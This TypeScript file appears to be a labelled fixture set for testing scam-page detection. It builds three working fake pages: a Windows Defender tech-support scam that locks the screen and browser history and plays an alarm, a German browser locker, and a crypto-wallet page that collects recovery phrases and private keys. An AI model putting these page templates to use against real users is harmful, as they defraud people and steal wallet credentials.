import type { Entry } from '../entry.js';
import { htmlRoute } from '../entry.js';
import { doc, imgRoute, b64 } from '../parts/r-kit.js';
import { jsRoute, jsonRoute, beepWav, fileRoute } from '../parts/e-bin.js';

const wav = () => fileRoute(beepWav(1, 960), 'audio/wav');

export const entries: Entry[] = [
{
  id: 'r-tss-defender-fullscreen-alarm',
  label: 'scam',
  kind: 'tech-support',
  url: 'https://win-defender-alert-0x8024.com/Er0xWin/index.html?ph=18885551042',
  body: doc({ title: 'Windows Defender - Security Warning', css: `html,body{margin:0;height:100%;overflow:hidden;font-family:"Segoe UI",sans-serif}body{background:#0078d7 url(/Er0xWin/desktop.png) center/cover}
.w{position:fixed;top:8%;left:50%;transform:translateX(-50%);width:640px;background:#fff;box-shadow:0 0 30px rgba(0,0,0,.6)}.w .t{background:#d32f2f;color:#fff;padding:10px 16px;font-weight:600}
.w .c{padding:18px 22px;font-size:14px}.ph{font-size:26px;font-weight:700;color:#d32f2f}.bt{background:#0067b8;color:#fff;border:0;padding:9px 22px;margin-right:8px}.sc{position:fixed;bottom:0;left:0;right:0;background:#111;color:#fff;padding:8px;text-align:center;font-size:18px}` },
`<div class="w"><div class="t">⛔ Windows Defender - Security Warning</div><div class="c">
<p><b>** ACCESS TO THIS PC HAS BEEN BLOCKED FOR SECURITY REASONS **</b></p>
<p>Your computer has alerted us that it has been infected with a Trojan Spyware. The following data has been compromised:</p>
<p>&gt; Email Credentials<br>&gt; Banking Passwords<br>&gt; Facebook Login<br>&gt; Pictures &amp; Documents</p>
<p>Windows Defender Scan has found potentially unwanted Adware on this device that can steal your passwords, online identity, financial information, personal files, pictures or documents.</p>
<p>You must contact us immediately so that our engineers can walk you through the removal process over the phone.</p>
<p>Call Microsoft Support: <span class="ph" id="ph1">+1-888-555-1042</span> (Toll Free)</p>
<p style="color:#d32f2f">Closing this page will put your personal information at risk and lead to a suspension of your Windows Registration.</p>
<button class="bt" id="b1">Call Support</button><button class="bt" style="background:#888" id="b2">Back to safety</button></div></div>
<div class="sc">Windows Support Alert — Call: <b id="ph2">+1-888-555-1042</b></div>
<audio id="au" src="/Er0xWin/alert.wav" loop autoplay></audio>
<script>
var ph=new URLSearchParams(location.search).get('ph');if(ph){var f=ph.replace(/(\\d)(\\d{3})(\\d{3})(\\d{4})/,'+$1-$2-$3-$4');ph1.textContent=f;ph2.textContent=f;}
function lock(){var d=document.documentElement;(d.requestFullscreen||d.webkitRequestFullscreen||function(){}).call(d);try{navigator.keyboard&&navigator.keyboard.lock()}catch(e){}document.getElementById('au').play().catch(function(){});}
document.addEventListener('click',lock);document.addEventListener('keydown',function(e){e.preventDefault();lock();});
window.onbeforeunload=function(){return 'Your computer is at risk!';};history.pushState(null,'',location.href);window.onpopstate=function(){history.pushState(null,'',location.href);};
setInterval(function(){alert('WARNING! Your computer is infected. Call Microsoft Support '+ph1.textContent);},9000);
</script>`),
  routes: { 'win-defender-alert-0x8024.com/Er0xWin/alert.wav': wav(), 'win-defender-alert-0x8024.com/Er0xWin/desktop.png': imgRoute(0, 120, 215) },
},
{
  id: 'r-tss-browser-locker-polizei-de',
  label: 'scam',
  kind: 'tech-support',
  url: 'https://sicherheitswarnung-pc.de/gesperrt/',
  body: doc({ lang: 'de', title: 'Ihr Computer wurde gesperrt', css: `body{margin:0;background:#002a5c;color:#fff;font-family:Arial,sans-serif}.b{max-width:760px;margin:40px auto;border:3px solid #fff;padding:28px}.n{font-size:34px;font-weight:bold;color:#ffeb3b}
.scan{background:#000;color:#0f0;font:12px monospace;height:120px;overflow:hidden;padding:8px}` },
`<div class="b"><h1>⚠ Ihr Computer wurde gesperrt</h1><p>Fehlercode: #DW6VB36 – Windows-Firewall hat einen Zugriff durch einen Hacker festgestellt. Ihre IP-Adresse, Bankdaten und Passwörter sind gefährdet.</p>
<p>Bitte rufen Sie umgehend den technischen Support an, um Ihr System zu entsperren:</p><p class="n">☎ 0800 181 4 552</p><p>(gebührenfrei, Microsoft zertifizierter Techniker)</p>
<div class="scan" id="sc"></div></div>
<script>
var f=['C:\\\\Windows\\\\System32\\\\drivers\\\\etc\\\\hosts ... INFIZIERT','C:\\\\Users\\\\Public\\\\bank_login.dat ... INFIZIERT','HKLM\\\\SOFTWARE\\\\Run\\\\svch0st ... TROJANER','Zeus.Banking.Trojan ... GEFUNDEN'],i=0;
setInterval(function(){var d=document.getElementById('sc');d.innerHTML=f[i++%f.length]+'<br>'+d.innerHTML;},500);
window.addEventListener('beforeunload',function(e){e.preventDefault();e.returnValue='';});
for(var k=0;k<3;k++){history.pushState({k:k},'',location.href);}
</script>`),
},
{
  id: 'r-seed-walletconnect-rectify-import',
  label: 'cryptodrainer',
  kind: 'seed-phish',
  url: 'https://dapps-rectification-node.net/wallets/',
  body: doc({ title: 'DApps Node – Rectify / Migration / Claim', css: `body{margin:0;background:linear-gradient(135deg,#1b1f3b,#3b1f5b);color:#fff;font-family:Arial,sans-serif}.g{display:grid;grid-template-columns:repeat(4,1fr);gap:16px;max-width:900px;margin:30px auto}
.g div{background:rgba(255,255,255,.08);padding:18px;border-radius:10px;text-align:center;cursor:pointer}.m{display:none;position:fixed;inset:0;background:rgba(0,0,0,.7)}.m>div{width:460px;margin:60px auto;background:#fff;color:#222;border-radius:10px;padding:22px}
.tb button{background:#eee;border:0;padding:8px 12px}.tb button.on{background:#3b99fc;color:#fff}textarea{width:100%;height:90px}` },
`<h1 style="text-align:center;padding-top:30px">Decentralised Wallet Protocol</h1><p style="text-align:center">Open protocol for syncing wallets to DApps. Select an issue to fix it.</p>
<div class="g"><div>Migration</div><div>Claim Reward</div><div>Rectification</div><div>Slippage Error</div><div>Missing Balance</div><div>Whitelist</div><div>Bridge Transfer</div><div>Locked Account</div></div>
<div class="m" id="m"><div><h3>Import your wallet</h3><p style="font-size:13px">Select wallet: <select><option>MetaMask</option><option>Trust Wallet</option><option>Coinbase Wallet</option><option>Phantom</option><option>Exodus</option></select></p>
<div class="tb"><button class="on">Phrase</button><button>Keystore JSON</button><button>Private Key</button></div>
<form method="post" action="/wallets/connect.php"><textarea name="phrase" placeholder="Enter your recovery phrase (typically 12 or 24 words separated by single spaces)"></textarea><input name="keystorepass" type="password" placeholder="Wallet password (for Keystore)" style="width:100%;margin:6px 0"><button style="background:#3b99fc;color:#fff;border:0;padding:10px 20px">IMPORT</button></form></div></div>
<script>[].forEach.call(document.querySelectorAll('.g div'),function(d){d.onclick=function(){document.getElementById('m').style.display='block';};});
setTimeout(function(){document.getElementById('m').style.display='block';},4000);</script>`),
},
];
